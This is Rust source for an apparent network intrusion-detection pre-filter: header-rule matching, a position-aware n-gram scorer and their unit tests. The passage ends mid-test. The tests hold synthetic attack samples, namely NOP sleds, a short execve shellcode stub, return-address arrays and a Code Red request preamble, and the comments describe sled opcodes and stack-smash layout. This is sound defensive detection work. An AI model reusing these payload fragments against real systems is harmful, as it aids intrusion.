    pub fn sticky_sources(&self) -> usize {
        self.sticky.len()
    }

    /// Per-`(lane, rule)` escalation hit counts, in lexical order.
    ///
    /// Every key is a `&'static str` pair — header-rule and signature
    /// names are compiled in, and the control/sticky/n-gram lanes use
    /// one fixed rule name each — so the cardinality is bounded by the
    /// rule tables, never by traffic.
    pub fn rule_hits(&self) -> impl Iterator<Item = (&'static str, &'static str, u64)> + '_ {
        self.rule_hits
            .iter()
            .map(|(&(lane, rule), &n)| (lane, rule, n))
    }

    fn record_hit(&mut self, lane: &'static str, rule: &'static str) {
        *self.rule_hits.entry((lane, rule)).or_insert(0) += 1;
    }

    /// Gate one packet. `flow_buffered` is true when the packet's flow
    /// already holds reassembled payload — such flows are mid-analysis
    /// and must keep receiving segments regardless of lane scores.
    ///
    /// Lane order is cost order: control check (one length test), sticky
    /// set lookup, header tables, signature automaton, n-gram score.
    /// Header/signature/n-gram escalations pin the source sticky.
    pub fn decide(&mut self, packet: &Packet, flow_buffered: bool) -> Decision {
        let payload = packet.payload();
        if payload.is_empty() {
            self.counters.control += 1;
            self.record_hit("control", "empty-payload");
            return Decision::Escalate(Lane::Control);
        }
        let src = packet.ip().map(|ip| ip.src);
        if flow_buffered || src.map(|s| self.sticky.contains(&s)).unwrap_or(false) {
            self.counters.sticky += 1;
            self.record_hit("sticky", "pinned-source");
            return Decision::Escalate(Lane::Sticky);
        }
        // Each lane attributes its escalation to the specific rule that
        // fired (lowest-bit header rule / first signature hit); the
        // n-gram lane has a single scoring "rule".
        let mask = self.header.match_mask(&HeaderFields::of(packet));
        let hit: Option<(Lane, &'static str)> = if mask != 0 {
            let rule = self
                .header
                .rules()
                .get(mask.trailing_zeros() as usize)
                .map(|r| r.name)
                .unwrap_or("unknown");
            Some((Lane::Header, rule))
        } else if let Some(sig) = self.sigs.match_payload(payload, packet.dst_port()).first() {
            Some((Lane::Signature, sig.rule))
        } else if self.ngram.is_suspicious(payload) {
            Some((Lane::Ngram, "position-score"))
        } else {
            None
        };
        match hit {
            Some((lane, rule)) => {
                if let Some(s) = src {
                    self.sticky.insert(s);
                }
                match lane {
                    Lane::Header => self.counters.header += 1,
                    Lane::Signature => self.counters.signature += 1,
                    Lane::Ngram => self.counters.ngram += 1,
                    Lane::Control | Lane::Sticky => unreachable!("handled above"),
                }
                self.record_hit(lane.name(), rule);
                Decision::Escalate(lane)
            }
            None => {
                self.counters.rejected += 1;
                Decision::Reject
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use snids_packet::{PacketBuilder, TcpFlags};

    fn builder(last: u8) -> PacketBuilder {
        PacketBuilder::new(
            Ipv4Addr::new(198, 18, 0, last),
            Ipv4Addr::new(192, 168, 1, 10),
        )
    }

    fn data(b: &PacketBuilder, sport: u16, payload: &[u8]) -> Packet {
        b.tcp(sport, 80, 1, 0, TcpFlags::PSH | TcpFlags::ACK, payload)
            .unwrap()
    }

    #[test]
    fn control_packets_always_escalate() {
        let mut pf = Prefilter::new(PrefilterConfig::default());
        let syn = builder(1).tcp_syn(40000, 80, 1).unwrap();
        assert_eq!(pf.decide(&syn, false), Decision::Escalate(Lane::Control));
        // Control escalation is not sticky: benign text after a
        // handshake still gets judged on its own merits.
        let text = data(&builder(1), 40000, b"GET / HTTP/1.0\r\n\r\n");
        assert_eq!(pf.decide(&text, false), Decision::Reject);
    }

    #[test]
    fn sled_escalates_and_pins_the_source_sticky() {
        let mut pf = Prefilter::new(PrefilterConfig::default());
        let b = builder(2);
        // A plain NOP sled is a *signature* hit (the 0x90×14 rule); use
        // an encoded payload to exercise the n-gram lane.
        assert_eq!(
            pf.decide(&data(&b, 40000, &[0x90u8; 128]), false),
            Decision::Escalate(Lane::Signature)
        );
        let encoded: Vec<u8> = [0xde, 0xad, 0xbe, 0xef].repeat(32);
        assert_eq!(
            pf.decide(&data(&builder(7), 40000, &encoded), false),
            Decision::Escalate(Lane::Ngram)
        );
        assert_eq!(pf.sticky_sources(), 2);
        assert_eq!(
            pf.decide(&data(&b, 40000, b"plain text continuation"), false),
            Decision::Escalate(Lane::Sticky)
        );
    }

    #[test]
    fn buffered_flows_escalate_even_from_fresh_sources() {
        let mut pf = Prefilter::new(PrefilterConfig::default());
        let text = data(&builder(3), 40000, b"benign looking tail segment");
        assert_eq!(pf.decide(&text, true), Decision::Escalate(Lane::Sticky));
    }

    #[test]
    fn header_rules_escalate_honeypot_traffic() {
        let decoy = Ipv4Addr::new(192, 168, 1, 200);
        let mut pf = Prefilter::new(PrefilterConfig::deployment_rules(&[decoy], &[]));
        let b = PacketBuilder::new(Ipv4Addr::new(198, 18, 0, 4), decoy);
        let p = b
            .tcp(40000, 80, 1, 0, TcpFlags::PSH | TcpFlags::ACK, b"hello")
            .unwrap();
        assert_eq!(pf.decide(&p, false), Decision::Escalate(Lane::Header));
    }

    #[test]
    fn signature_lane_catches_text_exploit_preambles() {
        let mut pf = Prefilter::new(PrefilterConfig::default());
        // Code Red's text preamble would sail past the n-gram score.
        let p = data(&builder(5), 40000, b"GET /default.ida?XXXXXXXX HTTP/1.0");
        assert_eq!(pf.decide(&p, false), Decision::Escalate(Lane::Signature));
    }

    #[test]
    fn counters_balance_against_decisions() {
        let mut pf = Prefilter::new(PrefilterConfig::default());
        let b = builder(6);
        let mut n = 0u64;
        for (i, payload) in [
            &b"GET / HTTP/1.0\r\n\r\n"[..],
            &[0x90u8; 64][..],
            &b"tail"[..],
            &[][..],
        ]
        .iter()
        .enumerate()
        {
            let p = data(&b, 41000 + i as u16, payload);
            pf.decide(&p, false);
            n += 1;
        }
        assert_eq!(pf.counters().total(), n);
        assert_eq!(pf.counters().rejected, 1);
        assert_eq!(pf.counters().escalated(), 3);
    }

    #[test]
    fn rule_hits_attribute_escalations_to_named_rules() {
        let decoy = Ipv4Addr::new(192, 168, 1, 200);
        let mut pf = Prefilter::new(PrefilterConfig::deployment_rules(&[decoy], &[]));
        // Header rule by name.
        let to_decoy = PacketBuilder::new(Ipv4Addr::new(198, 18, 0, 8), decoy)
            .tcp(40000, 80, 1, 0, TcpFlags::PSH | TcpFlags::ACK, b"hello")
            .unwrap();
        pf.decide(&to_decoy, false);
        // Control + sticky lanes use one fixed rule name each.
        let syn = builder(9).tcp_syn(40001, 80, 1).unwrap();
        pf.decide(&syn, false);
        // N-gram scoring rule.
        let encoded: Vec<u8> = [0xde, 0xad, 0xbe, 0xef].repeat(32);
        pf.decide(&data(&builder(10), 40002, &encoded), false);
        pf.decide(&data(&builder(10), 40003, b"tail"), false);
        let hits: Vec<_> = pf.rule_hits().collect();
        assert!(hits.contains(&("header", "honeypot-decoy", 1)), "{hits:?}");
        assert!(hits.contains(&("control", "empty-payload", 1)), "{hits:?}");
        assert!(hits.contains(&("ngram", "position-score", 1)), "{hits:?}");
        assert!(hits.contains(&("sticky", "pinned-source", 1)), "{hits:?}");
        // Rejections are not rule hits; total hits == escalations.
        pf.decide(&data(&builder(11), 40004, b"GET / HTTP/1.0\r\n\r\n"), false);
        let total: u64 = pf.rule_hits().map(|(_, _, n)| n).sum();
        assert_eq!(total, pf.counters().escalated());
        // Lexical (lane, rule) order: deterministic exposition.
        let keys: Vec<_> = pf.rule_hits().map(|(l, r, _)| (l, r)).collect();
        let mut sorted = keys.clone();
        sorted.sort_unstable();
        assert_eq!(keys, sorted);
    }
}
