//! The position-aware n-gram suspicion score.
//!
//! "Exploiting n-gram location" observation: *where* a byte pattern sits
//! in a payload carries signal. Injected-code payloads front-load a sled
//! (runs of single-byte no-op-class instructions) and tail-load a return
//! address repeated with period 4, while legitimate application traffic on
//! the same ports is overwhelmingly printable text everywhere. The scorer
//! folds both observations into one integer pass:
//!
//! * a 256-entry **byte-class weight table** (non-printable and high
//!   bytes score, printable text scores zero), with a separate *early*
//!   table that boosts sled-class opcodes inside the leading window;
//! * a **period-4 repeat bonus** over the trailing window (a `0xdeadbeef`
//!   retaddr array is exactly a period-4 byte sequence).
//!
//! The total is normalized per byte (×1000, integer arithmetic only) and
//! compared against a threshold. Benign text lands near 0; encoded or
//! polymorphic payloads land 4–10× above the default threshold — the gate
//! errs toward escalation, because a false *escalation* costs only time
//! while a false *rejection* costs a detection.

/// Scorer parameters.
#[derive(Debug, Clone)]
pub struct NgramConfig {
    /// Escalation threshold in milli-points per payload byte.
    pub threshold_milli: u32,
    /// Leading bytes treated as the sled zone (early-table weights).
    pub early_window: usize,
    /// Trailing bytes scanned for period-4 repeats (the retaddr zone).
    pub tail_window: usize,
}

impl Default for NgramConfig {
    fn default() -> Self {
        NgramConfig {
            threshold_milli: 250,
            early_window: 256,
            tail_window: 256,
        }
    }
}

/// Weight added per byte of period-4 repetition in the tail window.
const REPEAT_WEIGHT: u32 = 2;

/// The compiled scorer: two flat weight tables plus the repeat scan.
#[derive(Debug, Clone)]
pub struct NgramScorer {
    config: NgramConfig,
    /// Base per-byte weights (position-independent).
    weights: [u8; 256],
    /// Weights applied inside the leading `early_window` bytes.
    weights_early: [u8; 256],
}

/// Single-byte opcodes that dominate classic and polymorphic sleds (NOP,
/// `xchg`, one-byte arithmetic flag ops) — all outside printable ASCII, so
/// boosting them cannot tax text.
const SLED_OPS: [u8; 22] = [
    0x90, 0x91, 0x92, 0x93, 0x94, 0x95, 0x96, 0x97, // nop / xchg r32,eax
    0x98, 0x99, // cwde / cdq
    0x9b, 0x9c, 0x9e, 0x9f, // wait / pushf / sahf / lahf
    0xf5, 0xf8, 0xf9, 0xfa, 0xfb, 0xfc, 0xfd, // cmc clc stc cli sti cld std
    0xd6, // salc
];

impl NgramScorer {
    /// Build the scorer's weight tables for a configuration.
    pub fn new(config: NgramConfig) -> Self {
        let mut weights = [0u8; 256];
        for (b, w) in weights.iter_mut().enumerate() {
            let b = b as u8;
            let printable = (0x20..=0x7e).contains(&b) || b == b'\t' || b == b'\n' || b == b'\r';
            if !printable {
                *w = 2;
            }
        }
        let mut weights_early = weights;
        for op in SLED_OPS {
            weights_early[op as usize] = 5;
        }
        NgramScorer {
            config,
            weights,
            weights_early,
        }
    }

    /// The configuration the scorer was built with.
    pub fn config(&self) -> &NgramConfig {
        &self.config
    }

    /// Per-byte suspicion in milli-points: `(Σ weight) * 1000 / len`.
    /// Empty payloads score 0.
    pub fn score_milli(&self, payload: &[u8]) -> u32 {
        if payload.is_empty() {
            return 0;
        }
        let early = self.config.early_window.min(payload.len());
        let mut total: u32 = 0;
        for &b in &payload[..early] {
            total += u32::from(self.weights_early[b as usize]);
        }
        for &b in &payload[early..] {
            total += u32::from(self.weights[b as usize]);
        }
        // Period-4 repeats in the tail: retaddr arrays. Gated to
        // suspicious-class bytes — addresses are binary, while long runs
        // of printable padding ('AAAA…') are everyday benign filler and
        // must stay at zero.
        if payload.len() > 4 {
            let tail_start = payload.len().saturating_sub(self.config.tail_window).max(4);
            for i in tail_start..payload.len() {
                let repeat = payload[i] == payload[i - 4];
                let binary = self.weights[payload[i] as usize] > 0;
                total += REPEAT_WEIGHT * u32::from(repeat && binary);
            }
        }
        ((total as u64) * 1000 / payload.len() as u64) as u32
    }

    /// Does the payload clear the escalation threshold?
    pub fn is_suspicious(&self, payload: &[u8]) -> bool {
        self.score_milli(payload) >= self.config.threshold_milli
    }
}

impl Default for NgramScorer {
    fn default() -> Self {
        NgramScorer::new(NgramConfig::default())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::{Rng, SeedableRng};

    #[test]
    fn benign_text_scores_near_zero() {
        let s = NgramScorer::default();
        let req = b"GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: \
                    Mozilla/4.0 (compatible; MSIE 6.0)\r\nAccept: */*\r\n\r\n";
        assert_eq!(s.score_milli(req), 0);
        assert!(!s.is_suspicious(req));
    }

    #[test]
    fn nop_sled_payload_clears_the_threshold_by_a_wide_margin() {
        let s = NgramScorer::default();
        let mut payload = vec![0x90u8; 200];
        payload.extend_from_slice(&[0x31, 0xc0, 0x50, 0xb0, 0x0b, 0xcd, 0x80]);
        let score = s.score_milli(&payload);
        assert!(
            score >= 4 * s.config().threshold_milli,
            "sled scored only {score}"
        );
    }

    #[test]
    fn retaddr_tail_is_position_aware() {
        let s = NgramScorer::default();
        // Mostly text, but a period-4 return-address array at the end —
        // the classic stack-smash layout.
        let mut payload = vec![b'A'; 900];
        for _ in 0..100 {
            payload.extend_from_slice(&[0xbf, 0xff, 0xf1, 0x04]);
        }
        assert!(s.is_suspicious(&payload), "{}", s.score_milli(&payload));
        // The same length of pure printable padding is clean.
        let text = vec![b'A'; 1300];
        assert!(!s.is_suspicious(&text));
    }

    #[test]
    fn high_entropy_binary_escalates() {
        let mut rng = StdRng::seed_from_u64(7);
        let s = NgramScorer::default();
        let blob: Vec<u8> = (0..2048).map(|_| rng.gen()).collect();
        assert!(s.is_suspicious(&blob), "{}", s.score_milli(&blob));
    }

    #[test]
    fn empty_and_tiny_payloads_do_not_panic() {
        let s = NgramScorer::default();
        assert_eq!(s.score_milli(&[]), 0);
        for n in 1..8 {
            let _ = s.score_milli(&vec![0x90u8; n]);
            let _ = s.score_milli(&vec![b'a'; n]);
        }
    }

    #[test]
    fn printable_padding_runs_never_escalate() {
        // "XXXX..." padding is period-4-repetitive but printable; the
        // repeat bonus is gated to binary bytes so overflow-style text
        // padding alone (common in benign uploads too) scores zero.
        let s = NgramScorer::default();
        let payload = vec![b'X'; 1400];
        assert_eq!(s.score_milli(&payload), 0);
    }
}
