//! SIMD-friendly batched header matching.
//!
//! The header lane's per-packet cost is already four loads and three
//! `AND`s; what keeps a scalar loop off ~1 M pkts/s is pointer-chasing
//! through [`Packet`](snids_packet::Packet) structs. [`HeaderBatch`]
//! swizzles the matchable fields into structure-of-arrays form — five
//! parallel fixed-width vectors — so the match loop streams over dense
//! `u32`/`u16`/`u8` lanes the compiler can unroll and vectorize, and the
//! lookup tables stay hot in cache across the whole chunk.
//!
//! ```
//! use snids_prefilter::{HeaderBatch, HeaderLane, HeaderRule};
//! use std::net::Ipv4Addr;
//!
//! let lane = HeaderLane::compile(&[HeaderRule::to_host(
//!     "decoy",
//!     Ipv4Addr::new(192, 168, 1, 200),
//! )]);
//! let mut batch = HeaderBatch::with_capacity(64);
//! // ... batch.push_packet(&pkt) for each packet in the chunk ...
//! let mut masks = vec![0u32; batch.len()];
//! lane.match_batch(&batch, &mut masks);
//! ```

use crate::header::{HeaderFields, HeaderLane};
use snids_packet::Packet;

/// Preferred chunk size: big enough to amortize loop overhead, small
/// enough that all five lanes of one chunk fit in L1.
pub const BATCH_CHUNK: usize = 256;

/// A structure-of-arrays batch of header fields. All five vectors always
/// have the same length; index `i` across them is packet `i`.
#[derive(Debug, Default, Clone)]
pub struct HeaderBatch {
    /// Source addresses, big-endian integers.
    pub src: Vec<u32>,
    /// Destination addresses, big-endian integers.
    pub dst: Vec<u32>,
    /// Destination ports (0 when not TCP/UDP).
    pub dst_port: Vec<u16>,
    /// IP protocol numbers (255 for non-IPv4 frames).
    pub proto: Vec<u8>,
    /// TCP flag bytes (0 when not TCP).
    pub flags: Vec<u8>,
}

impl HeaderBatch {
    /// An empty batch with room for `cap` packets in every lane.
    pub fn with_capacity(cap: usize) -> HeaderBatch {
        HeaderBatch {
            src: Vec::with_capacity(cap),
            dst: Vec::with_capacity(cap),
            dst_port: Vec::with_capacity(cap),
            proto: Vec::with_capacity(cap),
            flags: Vec::with_capacity(cap),
        }
    }

    /// Number of packets in the batch.
    pub fn len(&self) -> usize {
        self.src.len()
    }

    /// Is the batch empty?
    pub fn is_empty(&self) -> bool {
        self.src.is_empty()
    }

    /// Drop all packets, keeping the allocations for reuse.
    pub fn clear(&mut self) {
        self.src.clear();
        self.dst.clear();
        self.dst_port.clear();
        self.proto.clear();
        self.flags.clear();
    }

    /// Append one packet's pre-extracted fields.
    pub fn push(&mut self, f: HeaderFields) {
        self.src.push(f.src);
        self.dst.push(f.dst);
        self.dst_port.push(f.dst_port);
        self.proto.push(f.proto);
        self.flags.push(f.flags);
    }

    /// Extract and append the fields of a decoded packet.
    pub fn push_packet(&mut self, packet: &Packet) {
        self.push(HeaderFields::of(packet));
    }

    /// Swizzle a slice of packets into a fresh batch.
    pub fn from_packets(packets: &[Packet]) -> HeaderBatch {
        let mut b = HeaderBatch::with_capacity(packets.len());
        for p in packets {
            b.push_packet(p);
        }
        b
    }

    /// The fields of packet `i` re-assembled (for diagnostics and tests).
    pub fn fields(&self, i: usize) -> HeaderFields {
        HeaderFields {
            src: self.src[i],
            dst: self.dst[i],
            dst_port: self.dst_port[i],
            proto: self.proto[i],
            flags: self.flags[i],
        }
    }
}

impl HeaderLane {
    /// Match every packet in the batch, writing rule bitmasks into `out`
    /// (`out[i]` = [`match_mask`](HeaderLane::match_mask) of packet `i`).
    ///
    /// `out` must be at least `batch.len()` long; excess entries are left
    /// untouched. The loop is written over dense parallel slices in
    /// [`BATCH_CHUNK`]-sized strides so the compiler can keep the table
    /// bases in registers and vectorize the flag/proto gathers.
    pub fn match_batch(&self, batch: &HeaderBatch, out: &mut [u32]) {
        let n = batch.len();
        assert!(out.len() >= n, "output buffer shorter than batch");
        let mut i = 0;
        while i < n {
            let end = (i + BATCH_CHUNK).min(n);
            let (src, dst) = (&batch.src[i..end], &batch.dst[i..end]);
            let (port, proto) = (&batch.dst_port[i..end], &batch.proto[i..end]);
            let flags = &batch.flags[i..end];
            for (k, o) in out[i..end].iter_mut().enumerate() {
                *o = self.match_fields(src[k], dst[k], port[k], proto[k], flags[k]);
            }
            i = end;
        }
    }

    /// Count of batch packets matching any rule (convenience over
    /// [`match_batch`](HeaderLane::match_batch) when only totals matter —
    /// the bench's hot loop).
    pub fn count_batch(&self, batch: &HeaderBatch) -> usize {
        let n = batch.len();
        let mut hits = 0usize;
        for j in 0..n {
            let m = self.match_fields(
                batch.src[j],
                batch.dst[j],
                batch.dst_port[j],
                batch.proto[j],
                batch.flags[j],
            );
            hits += (m != 0) as usize;
        }
        hits
    }

    /// Scalar kernel shared by the batch loops: identical arithmetic to
    /// [`match_mask`](HeaderLane::match_mask) but over unpacked lanes.
    #[inline(always)]
    fn match_fields(&self, src: u32, dst: u32, dst_port: u16, proto: u8, flags: u8) -> u32 {
        self.match_mask(&HeaderFields {
            src,
            dst,
            dst_port,
            proto,
            flags,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::header::HeaderRule;
    use std::net::Ipv4Addr;

    fn fields(dst: [u8; 4], dst_port: u16) -> HeaderFields {
        HeaderFields {
            src: u32::from(Ipv4Addr::new(198, 18, 0, 1)),
            dst: u32::from(Ipv4Addr::from(dst)),
            dst_port,
            proto: 6,
            flags: 0x18,
        }
    }

    #[test]
    fn batch_masks_agree_with_scalar_path() {
        let lane = HeaderLane::compile(&[
            HeaderRule::to_host("decoy", Ipv4Addr::new(192, 168, 1, 200)),
            HeaderRule::to_net("dark", Ipv4Addr::new(10, 99, 0, 0), 16),
        ]);
        let mut batch = HeaderBatch::default();
        let inputs = [
            fields([192, 168, 1, 200], 80),
            fields([192, 168, 1, 10], 80),
            fields([10, 99, 7, 7], 23),
            fields([8, 8, 8, 8], 53),
        ];
        for f in inputs {
            batch.push(f);
        }
        let mut masks = vec![0u32; batch.len()];
        lane.match_batch(&batch, &mut masks);
        for (i, f) in inputs.iter().enumerate() {
            assert_eq!(masks[i], lane.match_mask(f), "packet {i}");
            assert_eq!(batch.fields(i), *f);
        }
        assert_eq!(lane.count_batch(&batch), 2);
    }

    #[test]
    fn batch_spanning_multiple_chunks_is_fully_matched() {
        let lane = HeaderLane::compile(&[HeaderRule::to_host(
            "decoy",
            Ipv4Addr::new(192, 168, 1, 200),
        )]);
        let mut batch = HeaderBatch::with_capacity(3 * BATCH_CHUNK + 17);
        for i in 0..(3 * BATCH_CHUNK + 17) {
            // Every third packet hits the decoy.
            let dst = if i % 3 == 0 {
                [192, 168, 1, 200]
            } else {
                [192, 168, 1, 10]
            };
            batch.push(fields(dst, 80));
        }
        let mut masks = vec![0u32; batch.len()];
        lane.match_batch(&batch, &mut masks);
        let hits = masks.iter().filter(|&&m| m != 0).count();
        assert_eq!(hits, lane.count_batch(&batch));
        assert_eq!(hits, (3 * BATCH_CHUNK + 17).div_ceil(3));
    }

    #[test]
    fn clear_keeps_lanes_in_lockstep() {
        let mut b = HeaderBatch::default();
        b.push(fields([1, 2, 3, 4], 80));
        assert_eq!(b.len(), 1);
        assert!(!b.is_empty());
        b.clear();
        assert!(b.is_empty());
        assert_eq!(b.dst_port.len(), 0);
        assert_eq!(b.flags.len(), 0);
    }
}
