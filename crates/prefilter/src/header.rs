//! The branch-free packed header-match lane.
//!
//! Predicates over the five-tuple and TCP flags are compiled into flat
//! per-field lookup tables, one bit per rule ("Novel Header Matching
//! Algorithm": the root of the predicate trie collapses into a direct
//! lookup). Matching one packet is then four table loads and three `AND`s
//! — no branches, no per-rule iteration — and a packet matches rule `r`
//! exactly when bit `r` survives every field's mask:
//!
//! ```text
//! match_mask = port_bits[dst_port] & proto_bits[proto]
//!            & flag_bits[tcp_flags] & ip_bits(src, dst)
//! ```
//!
//! The lane is intentionally tiny (at most [`MAX_RULES`] rules): it is not
//! a general rule engine but the *escalation* half of the pre-filter —
//! "traffic shaped like this always deserves deep analysis" — so rules
//! name honeypot decoys, dark ranges and similar always-interesting
//! destinations. [`HeaderRule::matches_naive`] is the reference semantics
//! the compiled tables are property-tested against byte-for-byte.

use snids_packet::Packet;
use std::net::Ipv4Addr;

/// Hard cap on compiled rules: one bit per rule in a `u32` match mask.
pub const MAX_RULES: usize = 32;

/// One header predicate. Every field is optional; a rule matches a packet
/// when **all** of its set fields match (`None` = wildcard). An empty rule
/// matches everything.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HeaderRule {
    /// Diagnostic name (shows up in lane statistics, not in alerts).
    pub name: &'static str,
    /// Destination-port range, inclusive.
    pub dst_ports: Option<(u16, u16)>,
    /// IP protocol number (6 = TCP, 17 = UDP).
    pub proto: Option<u8>,
    /// TCP-flag mask: matches when `flags & mask != 0`. A packet with no
    /// TCP header carries flags `0`, so flag rules never match non-TCP.
    pub tcp_flags_any: Option<u8>,
    /// Source network as `(network, prefix_len)`.
    pub src_net: Option<(Ipv4Addr, u8)>,
    /// Destination network as `(network, prefix_len)`.
    pub dst_net: Option<(Ipv4Addr, u8)>,
}

impl HeaderRule {
    /// A rule matching everything (fill in fields from here).
    pub fn any(name: &'static str) -> Self {
        HeaderRule {
            name,
            dst_ports: None,
            proto: None,
            tcp_flags_any: None,
            src_net: None,
            dst_net: None,
        }
    }

    /// A rule matching all traffic **to** one host (the honeypot-decoy
    /// shape: anything sent there is interesting by definition).
    pub fn to_host(name: &'static str, dst: Ipv4Addr) -> Self {
        HeaderRule {
            dst_net: Some((dst, 32)),
            ..HeaderRule::any(name)
        }
    }

    /// A rule matching all traffic into a destination network.
    pub fn to_net(name: &'static str, net: Ipv4Addr, prefix: u8) -> Self {
        HeaderRule {
            dst_net: Some((net, prefix)),
            ..HeaderRule::any(name)
        }
    }

    /// Reference semantics: evaluate every predicate directly, one field
    /// at a time. The compiled [`HeaderLane`] must agree with this for
    /// every possible input — the differential property test's oracle.
    pub fn matches_naive(&self, f: &HeaderFields) -> bool {
        if let Some((lo, hi)) = self.dst_ports {
            if f.dst_port < lo || f.dst_port > hi {
                return false;
            }
        }
        if let Some(p) = self.proto {
            if f.proto != p {
                return false;
            }
        }
        if let Some(mask) = self.tcp_flags_any {
            // The packet parser keeps 6 flag bits; the lane tables match.
            if (f.flags & 0x3f) & mask == 0 {
                return false;
            }
        }
        if let Some((net, prefix)) = self.src_net {
            if !net_contains(net, prefix, f.src) {
                return false;
            }
        }
        if let Some((net, prefix)) = self.dst_net {
            if !net_contains(net, prefix, f.dst) {
                return false;
            }
        }
        true
    }
}

fn prefix_mask(prefix: u8) -> u32 {
    match prefix {
        0 => 0,
        p if p >= 32 => u32::MAX,
        p => u32::MAX << (32 - p),
    }
}

fn net_contains(net: Ipv4Addr, prefix: u8, addr: u32) -> bool {
    let mask = prefix_mask(prefix);
    addr & mask == u32::from(net) & mask
}

/// The header fields the lane matches on, pre-extracted from a packet so
/// batches can be swizzled into structure-of-arrays form (see
/// [`HeaderBatch`](crate::HeaderBatch)).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct HeaderFields {
    /// Source address as a big-endian integer.
    pub src: u32,
    /// Destination address as a big-endian integer.
    pub dst: u32,
    /// Destination transport port (0 when not TCP/UDP).
    pub dst_port: u16,
    /// IP protocol number (255 when the frame carries no IPv4).
    pub proto: u8,
    /// TCP flag byte (0 when not TCP).
    pub flags: u8,
}

impl HeaderFields {
    /// Extract the matchable fields from a decoded packet.
    pub fn of(packet: &Packet) -> HeaderFields {
        let (src, dst, proto) = match packet.ip() {
            Some(ip) => (u32::from(ip.src), u32::from(ip.dst), ip.protocol.value()),
            None => (0, 0, 0xff),
        };
        HeaderFields {
            src,
            dst,
            dst_port: packet.dst_port().unwrap_or(0),
            proto,
            flags: packet.tcp().map(|t| t.flags.0).unwrap_or(0),
        }
    }
}

/// One compiled subnet predicate, evaluated branch-free: the rule's bit
/// survives only when both masked compares come out equal.
#[derive(Debug, Clone, Copy)]
struct NetPred {
    src_mask: u32,
    src_val: u32,
    dst_mask: u32,
    dst_val: u32,
    bit: u32,
}

/// The compiled header-match lane: flat per-field lookup tables ANDed
/// into a per-packet rule bitmask.
#[derive(Debug, Clone)]
pub struct HeaderLane {
    /// `port_bits[p]`: rules whose destination-port predicate accepts `p`.
    port_bits: Box<[u32; 65536]>,
    /// `proto_bits[p]`: rules whose protocol predicate accepts number `p`.
    proto_bits: [u32; 256],
    /// `flag_bits[f]`: rules whose TCP-flag predicate accepts flag byte
    /// `f` (the parser keeps 6 flag bits, so 64 entries suffice).
    flag_bits: [u32; 64],
    /// Rules with at least one subnet predicate, evaluated arithmetically.
    nets: Vec<NetPred>,
    /// Rules with no subnet predicate (always survive the IP stage).
    ip_any: u32,
    /// The source rules, in bit order (for naming / statistics).
    rules: Vec<HeaderRule>,
}

impl HeaderLane {
    /// Compile a rule list into the flat tables. At most [`MAX_RULES`]
    /// rules are compiled; any beyond that are ignored (the lane is an
    /// escalation filter, not a full rule engine — [`Self::truncated`]
    /// reports whether that happened).
    pub fn compile(rules: &[HeaderRule]) -> HeaderLane {
        let kept: Vec<HeaderRule> = rules.iter().take(MAX_RULES).cloned().collect();
        let mut port_bits = vec![0u32; 65536].into_boxed_slice();
        let mut proto_bits = [0u32; 256];
        let mut flag_bits = [0u32; 64];
        let mut nets = Vec::new();
        let mut ip_any = 0u32;

        for (r, rule) in kept.iter().enumerate() {
            let bit = 1u32 << r;
            let (lo, hi) = rule.dst_ports.unwrap_or((0, u16::MAX));
            for p in lo..=hi {
                port_bits[p as usize] |= bit;
            }
            match rule.proto {
                Some(p) => proto_bits[p as usize] |= bit,
                None => {
                    for slot in proto_bits.iter_mut() {
                        *slot |= bit;
                    }
                }
            }
            for (f, slot) in flag_bits.iter_mut().enumerate() {
                let ok = match rule.tcp_flags_any {
                    Some(mask) => (f as u8) & mask != 0,
                    None => true,
                };
                if ok {
                    *slot |= bit;
                }
            }
            if rule.src_net.is_none() && rule.dst_net.is_none() {
                ip_any |= bit;
            } else {
                let (src_mask, src_val) = match rule.src_net {
                    Some((net, prefix)) => {
                        let m = prefix_mask(prefix);
                        (m, u32::from(net) & m)
                    }
                    None => (0, 0),
                };
                let (dst_mask, dst_val) = match rule.dst_net {
                    Some((net, prefix)) => {
                        let m = prefix_mask(prefix);
                        (m, u32::from(net) & m)
                    }
                    None => (0, 0),
                };
                nets.push(NetPred {
                    src_mask,
                    src_val,
                    dst_mask,
                    dst_val,
                    bit,
                });
            }
        }

        // The boxed-array conversion cannot fail: the Vec has exactly
        // 65536 elements by construction.
        let port_bits: Box<[u32; 65536]> = match port_bits.try_into() {
            Ok(b) => b,
            Err(_) => unreachable!("port table is 65536 entries"),
        };
        HeaderLane {
            port_bits,
            proto_bits,
            flag_bits,
            nets,
            ip_any,
            rules: kept,
        }
    }

    /// The compiled rules, in bit order.
    pub fn rules(&self) -> &[HeaderRule] {
        &self.rules
    }

    /// True when `compile` was handed more than [`MAX_RULES`] rules and
    /// dropped the excess.
    pub fn truncated(&self, source_len: usize) -> bool {
        source_len > self.rules.len()
    }

    /// Rules whose subnet predicates accept `(src, dst)`, evaluated with
    /// masked compares turned into arithmetic (no data-dependent branch).
    #[inline]
    fn ip_bits(&self, src: u32, dst: u32) -> u32 {
        let mut bits = self.ip_any;
        for n in &self.nets {
            let src_ok = (src & n.src_mask == n.src_val) as u32;
            let dst_ok = (dst & n.dst_mask == n.dst_val) as u32;
            bits |= n.bit * (src_ok & dst_ok);
        }
        bits
    }

    /// Bitmask of rules matching these fields (bit `r` = rule `r`); `0`
    /// means no rule matched. Four table loads and three ANDs.
    #[inline]
    pub fn match_mask(&self, f: &HeaderFields) -> u32 {
        self.port_bits[f.dst_port as usize]
            & self.proto_bits[f.proto as usize]
            & self.flag_bits[(f.flags & 0x3f) as usize]
            & self.ip_bits(f.src, f.dst)
    }

    /// Does any rule match?
    #[inline]
    pub fn matches(&self, f: &HeaderFields) -> bool {
        self.match_mask(f) != 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use snids_packet::PacketBuilder;

    fn fields(src: [u8; 4], dst: [u8; 4], dst_port: u16, proto: u8, flags: u8) -> HeaderFields {
        HeaderFields {
            src: u32::from(Ipv4Addr::from(src)),
            dst: u32::from(Ipv4Addr::from(dst)),
            dst_port,
            proto,
            flags,
        }
    }

    #[test]
    fn decoy_rule_matches_only_that_destination() {
        let decoy = Ipv4Addr::new(192, 168, 1, 200);
